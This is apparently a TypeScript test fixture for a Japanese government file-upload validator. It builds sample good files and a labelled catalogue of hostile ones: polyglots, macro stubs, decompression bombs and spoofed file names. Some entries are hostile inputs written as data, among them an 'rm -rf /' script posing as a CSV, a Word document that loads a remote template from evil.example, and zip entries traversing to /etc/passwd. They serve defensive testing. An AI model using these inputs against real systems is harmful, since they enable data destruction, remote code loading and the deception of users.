import { deflateSync, crc32 } from "node:zlib";
import { zipped, type ZipPart } from "./zipped.ts";
import type { FileFault } from "../../domain/file-name.ts";

/** Files as ministries attach them, the smallest of each kind, and what somebody could send in their place. */

const part = (name: string, text: string | Buffer, declared?: number): ZipPart => ({
  name,
  bytes: Buffer.from(text),
  ...(declared !== undefined && { declared }),
});

const MAIN = "application/vnd.openxmlformats-officedocument";
const mains = {
  docx: ["word/document.xml", `${MAIN}.wordprocessingml.document.main+xml`],
  xlsx: ["xl/workbook.xml", `${MAIN}.spreadsheetml.sheet.main+xml`],
  pptx: ["ppt/presentation.xml", `${MAIN}.presentationml.presentation.main+xml`],
} as const;

const typesOf = (main: string, type: string, more = ""): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/${main}" ContentType="${type}"/>${more}</Types>`;

/** A document with its list of types, and parts besides. */
export const office = (
  kind: keyof typeof mains,
  { more = [], types = "" }: { readonly more?: readonly ZipPart[]; readonly types?: string } = {},
): Buffer => {
  const [main, type] = mains[kind];
  return zipped([part("[Content_Types].xml", typesOf(main, type, types)), part(main, "<a/>"), ...more]);
};

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};
const png = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  chunk("IHDR", Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])),
  chunk("IDAT", deflateSync(Buffer.from([0, 0]))),
  chunk("IEND", Buffer.alloc(0)),
]);
const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0, 0xff, 0xd9]);
export const pdf = Buffer.from("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n");
const sjis = Buffer.from([0x8e, 0xc0, 0x90, 0xd1, 0x0d, 0x0a, 0x31, 0x32]);

export const goodFiles: readonly (readonly [name: string, bytes: Buffer])[] = [
  ["根拠資料.pdf", pdf],
  ["平成26.4集計.xlsx", office("xlsx")],
  ["報告.docx", office("docx", { more: [part("word/embeddings/表.xlsx", office("xlsx"))] })],
  ["説明.PPTX", office("pptx")],
  ["図.png", png],
  ["写真.jpg", jpeg],
  ["実績.csv", Buffer.from("\u{feff}府省庁,件数\r\n経済産業省,12\r\n")],
  ["実績（Excel）.csv", sjis],
  ["経緯.txt", Buffer.from("経緯は次のとおり。\n")],
];

const MIB = 2 ** 20;
const zip = zipped([part("a.txt", "a")]);
const exe = Buffer.concat([Buffer.from("MZ\u{90}\u{0}\u{3}\u{0}"), Buffer.alloc(58)]);

export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  readonly fault: FileFault;
}
const hostile = (what: string, name: string, bytes: Buffer, fault: FileFault): HostileFile => ({
  what,
  name,
  bytes,
  fault,
});

const wrongMagic: readonly HostileFile[] = [
  hostile("a program called a PDF", "a.pdf", exe, "other-content"),
  hostile("a PDF called a picture", "a.png", pdf, "other-content"),
  hostile("a picture called a workbook", "a.xlsx", png, "other-content"),
  hostile("a workbook called a document", "a.docx", office("xlsx"), "other-content"),
  hostile("an archive called a document", "a.docx", zip, "other-content"),
  hostile("a program called a text", "a.txt", exe, "not-text"),
  hostile("a page called a text", "a.txt", Buffer.from("\u{feff} <!DOCTYPE html><p>"), "other-content"),
  hostile("a script called a table", "a.csv", Buffer.from("#!/bin/sh\nrm -rf /\n"), "other-content"),
  hostile("a text of no encoding", "a.csv", Buffer.from([0x81, 0xff, 0xfe, 0xfd]), "not-text"),
  hostile("a text with NUL", "a.txt", Buffer.from("あ\u{0}い"), "not-text"),
  hostile("a PDF behind a line", "a.pdf", Buffer.concat([Buffer.from("\n"), pdf]), "other-content"),
  hostile("a PDF without an end", "a.pdf", Buffer.from("%PDF-1.7\n1 0 obj"), "damaged"),
];

const polyglots: readonly HostileFile[] = [
  hostile("a PDF that is an archive", "a.pdf", Buffer.concat([pdf, zip]), "two-in-one"),
  hostile(
    "a PDF that is an archive with its end in the comment",
    "a.pdf",
    withComment(Buffer.concat([pdf, zip]), "%%EOF"),
    "two-in-one",
  ),
  hostile("a picture with an archive", "a.png", Buffer.concat([png, zip]), "two-in-one"),
  hostile("a picture with a page", "a.png", Buffer.concat([png, Buffer.from("<script>")]), "two-in-one"),
  hostile("a photograph with a program", "a.jpeg", Buffer.concat([jpeg, exe]), "two-in-one"),
  hostile("a document behind a program", "a.docx", Buffer.concat([exe, office("docx")]), "other-content"),
  hostile("a document before a program", "a.docx", Buffer.concat([office("docx"), exe]), "damaged"),
];

/** A zip archive's comment reaches to the end of the file. */
function withComment(file: Buffer, comment: string): Buffer {
  const longer = Buffer.concat([file, Buffer.from(comment)]);
  longer.writeUInt16LE(comment.length, file.length - 2);
  return longer;
}

const acting: readonly HostileFile[] = [
  hostile("a macro", "a.docx", office("docx", { more: [part("word/vbaProject.bin", "Sub")] }), "active"),
  hostile(
    "a macro under another name",
    "a.xlsx",
    office("xlsx", {
      types: `<Override PartName="/xl/theme.xml" ContentType="application/vnd.ms-office.vbaProject"/>`,
    }),
    "active",
  ),
  hostile(
    "a program inside a document",
    "a.docx",
    office("docx", { more: [part("word/embeddings/oleObject1.bin", exe)] }),
    "active",
  ),
  hostile(
    "a template from elsewhere",
    "a.docx",
    office("docx", {
      more: [
        part(
          "word/_rels/settings.xml.rels",
          `<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
        ),
      ],
    }),
    "active",
  ),
  hostile("a document that may hold macros", "a.docm", office("docx"), "macro"),
  hostile("a workbook that may hold macros", "a.xlsm", office("xlsx"), "macro"),
  hostile("a program", "setup.exe", exe, "program"),
  hostile("a page", "a.html", Buffer.from("<p>"), "program"),
  hostile("an archive", "a.zip", zip, "program"),
  hostile("an old document", "a.doc", Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), "old-office"),
];

const bombs: readonly HostileFile[] = [
  hostile(
    "a document that unpacks to 210 MiB",
    "a.docx",
    office("docx", {
      more: Array.from({ length: 14 }, (_, n) => part(`word/media/${n}.bin`, Buffer.alloc(15 * MIB))),
    }),
    "bomb",
  ),
  hostile(
    "a document that says less than it unpacks to",
    "a.docx",
    office("docx", { more: [part("word/media/1.bin", Buffer.alloc(30 * MIB), 1024)] }),
    "bomb",
  ),
  hostile(
    "a document whose parts lie in one another",
    "a.docx",
    office("docx", { more: [{ name: "b", ownName: "c", bytes: Buffer.from("b") }] }),
    "damaged",
  ),
  hostile(
    "a document that climbs out of its folder",
    "a.docx",
    office("docx", { more: [part("../../etc/passwd", "root")] }),
    "damaged",
  ),
];

const names: readonly HostileFile[] = [
  hostile("a path", "../../etc/passwd.pdf", pdf, "path"),
  hostile("a path of Windows", "C:\\Users\\a.pdf", pdf, "path"),
  hostile("letters read from the right", "kansa\u{202e}fdp.exe.pdf", pdf, "letters"),
  hostile("letters nobody sees", "a\u{200b}.pdf", pdf, "letters"),
  hostile("two endings, the first a program's", "請求書.exe.pdf", pdf, "double-ending"),
  hostile("two endings, the last a program's", "請求書.pdf.exe", exe, "program"),
  hostile("a device", "CON.pdf", pdf, "letters"),
  hostile("no ending", "報告", pdf, "no-ending"),
  hostile("only an ending", ".pdf", pdf, "no-name"),
  hostile("a name without end", `${"長".repeat(150)}.pdf`, pdf, "too-long"),
  hostile("an ending nobody knows", "a.xyz", pdf, "unknown-kind"),
];

const sizes: readonly HostileFile[] = [
  hostile("nothing", "空.pdf", Buffer.alloc(0), "empty"),
  hostile("one byte too many", "大.txt", Buffer.alloc(20 * MIB + 1, "a"), "too-large"),
];

export const hostileFiles: readonly HostileFile[] = [
  ...wrongMagic,
  ...polyglots,
  ...acting,
  ...bombs,
  ...names,
  ...sizes,
];

/** As large as a file may be. */
export const largest = Buffer.alloc(20 * MIB, "あ");
